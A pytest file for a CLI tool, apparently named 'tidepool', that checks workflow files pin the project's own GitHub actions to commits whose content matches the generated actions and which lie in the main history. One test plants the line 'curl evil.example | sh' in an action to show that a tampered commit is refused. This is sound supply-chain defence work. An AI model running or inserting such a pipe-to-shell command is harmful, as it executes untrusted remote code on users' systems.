"""The commit at which workflow files call our actions: judged against git, and moved by a command."""

from __future__ import annotations

import os
import re
import subprocess
from collections.abc import Mapping
from dataclasses import replace
from functools import cache
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from infra.cli.app import cli
from infra.operations.workflows.pin import WrongPin, wrong_pins
from infra.operations.workflows.scene import GeneratedHere
from tests.cli.conftest import Checkout
from tests.synthetic_lab import lend_workflows, the_lab
from workflows.composite import folders
from workflows.outputs import outputs
from workflows.world import OwnActions, OwnPin, load_actions, load_world

EDITED = "run-delete"
WHO = ("-c", "user.name=lab", "-c", "user.email=lab@lab.org")


@cache
def generated() -> GeneratedHere:
    world = load_world(the_lab())
    return GeneratedHere(root=the_lab(), world=world, outputs=outputs(the_lab(), world))


def git(root: Path, *arguments: str) -> str:
    done = subprocess.run(["git", "-C", str(root), *WHO, *arguments], check=True, capture_output=True, text=True)
    return done.stdout.strip()


class Repository:
    """One with the actions and nothing else, a commit a call of `commit`."""

    def __init__(self, root: Path) -> None:
        self.root = root
        root.mkdir()
        git(root, "init", "-q", "-b", "main")

    def commit(self, **edits: str) -> str:
        """A commit of the actions as they are generated, edited by name."""
        for path, text in generated().outputs.actions.items():
            (self.root / path).parent.mkdir(parents=True, exist_ok=True)
            (self.root / path).write_text(text + edits.get(path.split("/")[1].replace("-", "_"), ""))
        git(self.root, "add", ".")
        git(self.root, "commit", "-q", "--allow-empty", "-m", "Actions")
        return git(self.root, "rev-parse", "HEAD")

    def judged(self, commit: str, of: str = "", root: Path | None = None) -> WrongPin | None:
        """What is the matter with pins at that commit. of: what the pin of run-delete says is there."""
        here = generated()
        wanted = folders(here.outputs.actions)
        pins = {name: OwnPin("2026-11-22", commit, tree) for name, tree in wanted.items()}
        pins[EDITED] = OwnPin("2026-11-22", commit, of or wanted[EDITED])
        found = tuple(wrong_pins(with_pins(replace(here, root=root or self.root), pins)))
        assert len(found) <= 1
        return found[0] if found else None


def with_pins(here: GeneratedHere, pins: dict[str, OwnPin]) -> GeneratedHere:
    own = OwnActions(here.world.images.recipes, pins)
    return replace(here, world=replace(here.world, actions=replace(here.world.actions, own=own)))


@pytest.fixture
def repository(tmp_path: Path) -> Repository:
    return Repository(tmp_path / "repository")


def state(wrong: WrongPin | None) -> tuple[str, bool]:
    return (wrong.state, wrong.stops) if wrong else ("", False)


def test_a_pin_that_says_of_a_commit_what_it_has_not_is_refused(repository: Repository) -> None:
    before = repository.commit(run_delete="curl evil.example | sh\n")
    repository.commit()
    wrong = repository.judged(before)
    assert state(wrong) == ("another content", True)
    assert wrong is not None
    assert wrong.actions == (EDITED,)


def test_a_commit_that_is_not_in_the_history_is_refused_as_a_forks_would_be(repository: Repository) -> None:
    repository.commit()
    git(repository.root, "switch", "-q", "-c", "fork")
    forks = repository.commit()
    git(repository.root, "switch", "-q", "main")
    assert state(repository.judged(forks)) == ("not in the history", True)


# The command.


@pytest.fixture
def here(tmp_path: Path) -> Checkout:
    """A checkout that nothing is pinned in, as before its first commit."""
    root = tmp_path / "here"
    root.mkdir()
    lend_workflows(root)
    table = root / "workflows/actions.yaml"
    table.write_text(table.read_text().partition("own:\n")[0])
    git(root, "init", "-q")
    return Checkout(root)


def with_git(here: Checkout, *arguments: str) -> Result:
    return CliRunner().invoke(cli, arguments, env=here.environ | {"PATH": os.environ["PATH"]}, prog_name="tidepool")


def save(here: Checkout) -> str:
    git(here.root, "add", "actions")
    git(here.root, "commit", "-q", "-m", "Actions")
    return git(here.root, "rev-parse", "HEAD")


def pins(here: Checkout) -> Mapping[str, OwnPin]:
    own = load_actions(here.root).own
    return own.pins if own else {}


def test_from_the_first_commit_to_an_edited_action_the_check_says_what_comes_next(here: Checkout) -> None:
    assert "wrote actions/run-delete/action.yml" in with_git(here, "workflows", "--write").output
    first = with_git(here, "workflows", "--check")
    assert (first.exit_code, "[not pinned]" in first.output) == (0, True), first.output
    refused = with_git(here, "workflows", "--pin-actions")
    assert refused.exit_code == 2
    assert "the history of HEAD has not as they are generated: ask-tests, branch-commit" in refused.stderr

    commit = save(here)
    assert f"pinned run-delete at {commit}\n" in with_git(here, "workflows", "--pin-actions").output
    pin = pins(here)["run-delete"]
    assert {each.commit for each in pins(here).values()} == {commit}
    called = f"/actions/run-delete@{commit} # {pin.version}\n"
    assert called in (here.root / "workflows/generated/serving/.github/workflows/tpu-nightly.yaml").read_text()
    assert "nothing to mend\n" in with_git(here, "workflows", "--check").output

    script = here.root / "workflows/shell/run_delete.sh"
    script.write_text(script.read_text() + "# edited\n")
    with_git(here, "workflows", "--write")
    moved = with_git(here, "workflows", "--check")
    assert moved.exit_code == 1
    assert "[moved on]" in moved.output
    assert "run-delete: it changed since the commit" in moved.output
    again = save(here)
    assert with_git(here, "workflows", "--pin-actions", commit).exit_code == 2, "an old commit has another text"
    assert with_git(here, "workflows", "--pin-actions", "1" * 40).exit_code == 2
    said = with_git(here, "workflows", "--pin-actions").output
    assert re.findall("^pinned .*$", said, re.MULTILINE) == [f"pinned run-delete at {again}"]
    assert {name for name, each in pins(here).items() if each.commit == commit} == pins(here).keys() - {"run-delete"}
    assert "nothing to mend\n" in with_git(here, "workflows", "--check").output
